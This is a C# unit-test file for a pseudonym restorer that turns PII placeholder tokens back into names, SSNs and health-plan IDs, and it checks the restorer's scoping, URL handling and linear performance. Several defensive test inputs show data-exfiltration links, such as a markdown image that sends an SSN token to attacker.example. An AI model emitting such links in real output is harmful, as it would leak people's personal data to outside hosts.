using Caduceus.Detection.Anonymization;

namespace Caduceus.Detection.Tests.Anonymization;

public sealed class PseudonymRestorerTests
{
    private static PseudonymTable Table()
    {
        var table = new PseudonymTable();
        table.GetOrIssue(EntityTypes.Name, "Jane Roe");
        table.GetOrIssue(EntityTypes.Ssn, "536-22-1843");
        table.GetOrIssue(EntityTypes.HealthPlanId, "1EG4-TE5-MK73");
        return table;
    }

    [Fact]
    public void Replaces_issued_tokens_with_their_values()
    {
        var restored = PseudonymRestorer.Restore("<NAME_1> (SSN <SSN_1>, plan <HEALTH_PLAN_ID_1>) is due; call <NAME_1>.", Table(), restoreInsideUrls: false, out var count);

        Assert.Equal("Jane Roe (SSN 536-22-1843, plan 1EG4-TE5-MK73) is due; call Jane Roe.", restored);
        Assert.Equal(4, count);
    }

    [Theory]
    [InlineData("<NAME_7> is invented")]
    [InlineData("<PHONE_1> was never issued")]
    [InlineData("<NAME_01> has a leading zero")]
    [InlineData("< NAME_1> and <NAME_1 > and <name_1>")]
    [InlineData("a < b and c > d")]
    [InlineData("<<<>>> <NAME_>")]
    public void Leaves_tokens_never_issued_in_the_scope_as_they_are(string text)
    {
        Assert.Same(text, PseudonymRestorer.Restore(text, Table()));
    }

    [Fact]
    public void Restores_a_token_right_after_a_stray_angle_bracket()
    {
        Assert.Equal("x <<Jane Roe>>", PseudonymRestorer.Restore("x <<<NAME_1>>>", Table()));
    }

    [Fact]
    public void Returns_text_without_tokens_as_is()
    {
        const string text = "No tokens here.";

        Assert.Same(text, PseudonymRestorer.Restore(text, Table()));
    }

    [Fact]
    public void Restores_nothing_from_another_scope()
    {
        var other = new PseudonymTable();

        Assert.Equal("<NAME_1>", PseudonymRestorer.Restore("<NAME_1>", other));
    }

    [Theory]
    [InlineData("![chart](https://attacker.example/log?q=<SSN_1>)")]
    [InlineData("see http://example.org/<NAME_1>")]
    [InlineData("[x](//attacker.example/<SSN_1>)")]
    [InlineData("https:\\\\attacker.example\\<SSN_1>")]
    [InlineData("www.attacker.example/<SSN_1>")]
    public void Does_not_restore_tokens_inside_urls(string text)
    {
        Assert.Same(text, PseudonymRestorer.Restore(text, Table()));
    }

    [Fact]
    public void Restores_tokens_inside_urls_when_asked_to()
    {
        Assert.Equal("https://portal.example/p/536-22-1843", PseudonymRestorer.Restore("https://portal.example/p/<SSN_1>", Table(), restoreInsideUrls: true));
    }

    [Fact]
    public void Restores_tokens_after_a_url_has_ended()
    {
        Assert.Equal("see https://example.org/help for Jane Roe", PseudonymRestorer.Restore("see https://example.org/help for <NAME_1>", Table()));
        Assert.Equal("a/b Jane Roe", PseudonymRestorer.Restore("a/b <NAME_1>", Table()));
    }

    public static TheoryData<string> AdversarialInputs => new()
    {
        new string('<', 100_000),
        string.Concat(Enumerable.Repeat("<NAME_", 20_000)),
        string.Concat(Enumerable.Repeat("<NAME_1>", 12_500)),
        "<" + new string('A', 100_000) + ">",
        string.Concat(Enumerable.Repeat("//<SSN_1>", 10_000)),
    };

    [Theory]
    [MemberData(nameof(AdversarialInputs))]
    public void Restores_long_hostile_text_in_one_pass(string text)
    {
        var started = System.Diagnostics.Stopwatch.StartNew();

        _ = PseudonymRestorer.Restore(text, Table());
        var restorer = new StreamingPseudonymRestorer(Table());
        var length = text.Chunk(7).Sum(chunk => restorer.Push(new string(chunk)).Length) + restorer.Flush().Length;

        Assert.True(length >= text.Length / 2);
        Assert.True(started.Elapsed < TimeSpan.FromSeconds(2), "restoring must stay linear");
    }
}
